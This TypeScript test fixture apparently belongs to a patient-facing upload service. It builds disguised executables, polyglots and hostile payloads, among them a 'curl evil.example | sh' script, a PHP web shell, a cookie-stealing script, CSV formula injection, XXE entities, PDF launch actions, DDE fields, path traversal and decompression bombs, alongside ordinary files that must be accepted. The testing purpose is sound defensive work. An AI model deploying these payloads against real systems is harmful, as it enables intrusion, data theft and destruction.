import { deflateSync } from 'node:zlib';
import { makeJpeg, makePdf, makePng } from '../shoes/files.ts';
import { makeCompound, makeOffice, makeZip } from './make-zip.ts';

export interface TestFile {
  /** What it is, for people. */
  what: string;
  name: string;
  type: string;
  bytes: Uint8Array;
}

const utf8 = (text: string) => Buffer.from(text);
const latin1 = (text: string) => Buffer.from(text, 'latin1');
const exe = Buffer.concat([
  latin1(`MZ\x90\0\x03${'\0'.repeat(59)}`),
  utf8('This program cannot be run in DOS mode.\r\r\n$'),
  Buffer.alloc(400, 1),
]);
const elf = Buffer.concat([latin1('\x7fELF\x02\x01\x01'), Buffer.alloc(500)]);
const macho = Buffer.concat([latin1('\xcf\xfa\xed\xfe'), Buffer.alloc(500)]);
const javaClass = Buffer.concat([latin1('\xca\xfe\xba\xbe\0\0\0\x34'), Buffer.alloc(200)]);
/** In parts, so that no scanner finds this source. */
const eicar = utf8(['X5O!P%@AP[4', '\\PZX54(P^)7CC)7}$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join(''));
const jar = makeZip([
  { name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' },
  { name: 'A.class', content: javaClass },
]);
const html = '<!DOCTYPE html><html><script>parent.stolen = document.cookie</script></html>';
const png = Buffer.from(makePng({ width: 2, height: 2 }));
const jpeg = Buffer.from(makeJpeg());
export const gif = latin1('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;');
const svg = (content: string, head = '') => utf8(`${head}<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`);
const joined = (...parts: Uint8Array[]) => Buffer.concat(parts);
const relation = (target: string, type: string) => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Id="r1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
});

const [pngType, jpegType, gifType, svgType] = ['image/png', 'image/jpeg', 'image/gif', 'image/svg+xml'];
const [pdfType, textType, csvType, wordType] = [
  'application/pdf',
  'text/plain',
  'text/csv',
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
];
const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const unknown = 'application/octet-stream';

/** Files that nobody may open as what they say they are (security rows F3, F4, F6, F7 and F10). */
export async function makeHostileFiles(): Promise<TestFile[]> {
  const pdf = Buffer.from(await makePdf([[200, 200]]));
  const file = (what: string, name: string, type: string, bytes: Uint8Array): TestFile => ({ what, name, type, bytes });
  const bomb = Buffer.alloc(60 * 2 ** 20);
  return [
    file('Windows program named as a photo', 'label.png', pngType, exe),
    file('Windows program, type unknown', 'setup.exe', unknown, exe),
    file('Windows program with two extensions', 'photo.jpg.exe', unknown, exe),
    file('Windows program without an extension', 'invoice', unknown, exe),
    file('Windows program named as a PDF', 'rx.pdf', pdfType, exe),
    file('Windows program named as text', 'notes.txt', textType, exe),
    file('Linux program named as a photo', 'label.jpg', jpegType, elf),
    file('macOS program named as a document', 'form.docx', wordType, macho),
    file('Java class named as a photo', 'a.gif', gifType, javaClass),
    file('Shell script named as text', 'run.txt', textType, utf8('#!/bin/sh\ncurl evil.example | sh\n')),
    file('Batch file named as text', 'a.txt', textType, utf8('@echo off\r\ndel /q *.*\r\n')),
    file('Java archive named as a document', 'a.docx', wordType, jar),
    file(
      'Installer (compound file) named as a document',
      'a.doc',
      'application/msword',
      makeCompound('Property', 'File'),
    ),
    file('EICAR as text', 'eicar.txt', textType, eicar),
    file('EICAR named as a photo', 'eicar.png', pngType, eicar),
    file('EICAR in a PDF', 'eicar.pdf', pdfType, joined(pdf, utf8('\n%'), eicar)),
    file(
      'EICAR in a Word file',
      'eicar.docx',
      wordType,
      makeOffice('docx', [{ name: 'word/media/a.bin', content: eicar }]),
    ),
    file('EICAR behind a photo', 'eicar.jpg', jpegType, joined(jpeg, eicar)),
    file('HTML named as a photo', 'page.png', pngType, utf8(html)),
    file('HTML named as text', 'page.txt', textType, utf8(html)),
    file('HTML named as a table', 'page.csv', csvType, utf8(`\ufeff \n${html}`)),
    file(
      'HTML in UTF-16 named as text',
      'wide.txt',
      textType,
      joined(latin1('\xff\xfe'), Buffer.from(html, 'utf16le')),
    ),
    file('HTML without an extension', 'page', unknown, utf8(html)),
    file('HTML under its own name', 'page.html', unknown, utf8(html)),
    file(
      'Mail archive with a page',
      'a.txt',
      textType,
      utf8('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n'),
    ),
    file('PHP named as text', 'a.txt', textType, utf8('<?php system($_GET["c"]);')),
    file('RTF named as text', 'a.txt', textType, utf8('{\\rtf1{\\object\\objocx}}')),
    file('PostScript named as text', 'a.txt', textType, utf8('%!PS\n(/etc/passwd) (r) file')),
    file('Table that starts a program', 'a.csv', csvType, utf8("name,dose\n=cmd|'/c calc'!A1,1\n")),
    file('GIF that is also a Java archive', 'a.gif', gifType, joined(gif, jar)),
    file('PNG that is also a zip', 'a.png', pngType, joined(png, makeZip([{ name: 'a.js', content: 'alert(1)' }]))),
    file('JPEG that is also a page', 'a.jpg', jpegType, joined(jpeg, utf8(html))),
    file('PNG with PHP in a comment', 'a.png', pngType, joined(png, utf8('<?php system("id"); ?>'))),
    file('PDF that is also a zip', 'a.pdf', pdfType, joined(pdf, jar)),
    file('PDF named as a photo', 'a.jpg', jpegType, pdf),
    file('Photo named as a PDF', 'a.pdf', pdfType, png),
    file('SVG named as a photo', 'a.png', pngType, svg('<script>alert(1)</script>')),
    file('SVG with a script', 'a.svg', svgType, svg('<script>alert(1)</script>')),
    file(
      'SVG with a script in a namespace',
      'a.svg',
      svgType,
      svg('<s:script xmlns:s="http://www.w3.org/2000/svg">1</s:script>'),
    ),
    file('SVG with a handler', 'a.svg', svgType, svg('<rect width="1" height="1" onload="alert(1)"/>')),
    file(
      'SVG with a page in it',
      'a.svg',
      svgType,
      svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    ),
    file('SVG with a script link', 'a.svg', svgType, svg('<a href="java&#115;cript:alert(1)"><text>x</text></a>')),
    file('SVG that loads from elsewhere', 'a.svg', svgType, svg('<image href="https://evil.example/a.png"/>')),
    file('SVG with entities', 'a.svg', svgType, svg('&a;', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>')),
    file(
      'SVG that changes a link later',
      'a.svg',
      svgType,
      svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
    ),
    file(
      'PDF that starts a program',
      'a.pdf',
      pdfType,
      joined(pdf, utf8('\n9 0 obj<</S/Launch/F(calc.exe)>>endobj\n%%EOF')),
    ),
    file(
      'PDF that starts a program by an escaped name',
      'a.pdf',
      pdfType,
      joined(pdf, utf8('\n9 0 obj<</S/L#61un#63h/F(calc.exe)>>endobj\n%%EOF')),
    ),
    file(
      'Word file with macros',
      'a.docx',
      wordType,
      makeOffice('docx', [{ name: 'word/vbaProject.bin', content: 'x' }]),
    ),
    file(
      'Word file with an outside template',
      'a.docx',
      wordType,
      makeOffice('docx', [relation('https://evil.example/t.dotm', 'attachedTemplate')]),
    ),
    file(
      'Word file with a program',
      'a.docx',
      wordType,
      makeOffice('docx', [{ name: 'word/embeddings/oleObject1.bin', content: exe }]),
    ),
    file('Word file with a script', 'a.docx', wordType, makeOffice('docx', [{ name: 'word/a.vbs', content: 'x' }])),
    file(
      'Word file with a DDE field',
      'a.docx',
      wordType,
      makeOffice('docx', [{ name: 'word/h.xml', content: '<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>' }]),
    ),
    file(
      'Word file with entities',
      'a.docx',
      wordType,
      makeOffice('docx', [{ name: 'word/h.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }]),
    ),
    file(
      'Sheet with a DDE link',
      'a.xlsx',
      sheetType,
      makeOffice('xlsx', [{ name: 'xl/externalLinks/e1.xml', content: '<ddeLink ddeService="cmd"/>' }]),
    ),
    file('Old Word file with macros', 'a.doc', 'application/msword', makeCompound('WordDocument', '_VBA_PROJECT')),
    file(
      'Office bomb: much from little',
      'a.docx',
      wordType,
      makeOffice('docx', [{ name: 'word/a.xml', content: bomb }]),
    ),
    file(
      'Office bomb: lies of its size',
      'a.docx',
      wordType,
      makeOffice('docx', [{ name: 'word/a.xml', content: bomb, claimedBytes: 10 }]),
    ),
    file(
      'Office bomb: shared bytes',
      'a.docx',
      wordType,
      makeOffice('docx', [
        { name: 'word/a.xml', content: bomb.subarray(0, 1_000_000) },
        ...Array.from({ length: 40 }, (_, n) => ({
          name: `word/b${n}.xml`,
          content: bomb.subarray(0, 1_000_000),
          sharesBytes: true,
        })),
      ]),
    ),
    file(
      'Office bomb: 3,000 parts',
      'a.xlsx',
      sheetType,
      makeOffice(
        'xlsx',
        Array.from({ length: 3_000 }, (_, n) => ({ name: `xl/p${n}`, content: 'x' })),
      ),
    ),
    file(
      'Office file that leaves its folder',
      'a.docx',
      wordType,
      makeOffice('docx', [{ name: '../../../etc/cron.d/a', content: 'x' }]),
    ),
    file(
      'PNG bomb: 30,000 by 30,000',
      'a.png',
      pngType,
      Buffer.from(makePng({ width: 30_000, height: 30_000, data: deflateSync(Buffer.alloc(1_000)) })),
    ),
    file(
      'GIF bomb: 65,535 by 65,535',
      'a.gif',
      gifType,
      joined(latin1('GIF89a\xff\xff\xff\xff\0\0\0'), gif.subarray(19)),
    ),
    file('PNG with its end cut off', 'a.png', pngType, png.subarray(0, 40)),
    file('PNG of a header only', 'a.png', pngType, png.subarray(0, 8)),
    file('JPEG with a broken head', 'a.jpg', jpegType, latin1('\xff\xd8\xff\xe0\0\0\0\0\0')),
    file('WebP of a header only', 'a.webp', 'image/webp', latin1('RIFF\x24\0\0\0WEBPVP8 ')),
    file('Zip named as a document', 'a.docx', wordType, makeZip([{ name: 'readme.txt', content: 'hi' }])),
    file('Word file with a broken directory', 'a.docx', wordType, makeOffice('docx').subarray(0, 300)),
    file('File of no bytes', 'a.png', pngType, Buffer.alloc(0)),
  ];
}

/** What patients send every day. None may be refused. */
export async function makeOrdinaryFiles(): Promise<TestFile[]> {
  const pdf = Buffer.from(await makePdf([[612, 792]], 'Insurance card'));
  const file = (what: string, name: string, type: string, bytes: Uint8Array): TestFile => ({ what, name, type, bytes });
  return [
    file('PNG', 'label.png', pngType, png),
    file('JPEG', 'IMG_0001.JPG', jpegType, jpeg),
    file('JPEG, turned', 'a.jpeg', jpegType, Buffer.from(makeJpeg(6))),
    file(
      'JPEG with a video behind it',
      'motion.jpg',
      jpegType,
      joined(jpeg, latin1('\0\0\0\x18ftypmp42\0\0\0\0isommp42'), Buffer.alloc(3_000, 7)),
    ),
    file('PNG that a phone named jpg', 'photo.jpg', jpegType, png),
    file('GIF', 'a.gif', gifType, gif),
    file('Photo of no name', 'image', unknown, jpeg),
    file('PDF', 'card.pdf', pdfType, pdf),
    // Readers repair these, and staff get them as downloads.
    file('PDF with its end cut off', 'cut.pdf', pdfType, pdf.subarray(0, 60)),
    file('PDF of a header only', 'header.pdf', pdfType, utf8('%PDF-1.7\n')),
    file('PDF of unknown type', 'card.PDF', unknown, pdf),
    file('text', 'list.txt', textType, utf8('metformin 500 mg <twice a day> & "with food"\n')),
    file('text in Spanish, old coding', 'lista.txt', textType, latin1('ni\xf1o, a\xf1o\r\n')),
    file('text in UTF-16', 'lista.txt', textType, joined(latin1('\xff\xfe'), Buffer.from('niño 😀', 'utf16le'))),
    file('text that starts like a picture', 'a.txt', textType, utf8('BMI 31, weight 190\n')),
    file(
      'text that starts like a program',
      'a.txt',
      textType,
      utf8('MZ is my middle initial. My prescription is for Zoloft 50 mg, refill it?'),
    ),
    file('text without an extension', 'notes', textType, utf8('call me')),
    file('Markdown', 'a.md', 'text/markdown', utf8('# Meds\n- a\n')),
    file('table', 'a.csv', csvType, utf8('name,dose\n-5,+1\n"=SUM(A1:A2)",@me\n')),
    file('table as Excel names it', 'a.csv', 'application/vnd.ms-excel', utf8('a,b\n1,2\n')),
    file('JSON', 'a.json', 'application/json', utf8('{"a":[1,2]}')),
    file('Word file', 'form.docx', wordType, makeOffice('docx')),
    file(
      'Word file with a link',
      'form.docx',
      wordType,
      makeOffice('docx', [relation('https://insurer.example', 'hyperlink')]),
    ),
    file('sheet', 'a.xlsx', sheetType, makeOffice('xlsx')),
    file(
      'slides',
      'a.pptx',
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      makeOffice('pptx'),
    ),
    file('old Word file', 'a.doc', 'application/msword', makeCompound('WordDocument', '1Table')),
    file('old sheet', 'a.xls', 'application/vnd.ms-excel', makeCompound('Workbook')),
    file(
      'drawing',
      'a.svg',
      svgType,
      svg('<style>.a{fill:url(#g)}</style><path d="M0 0h1" class="a"/><use href="#p"/>', '<?xml version="1.0"?>\n'),
    ),
  ];
}
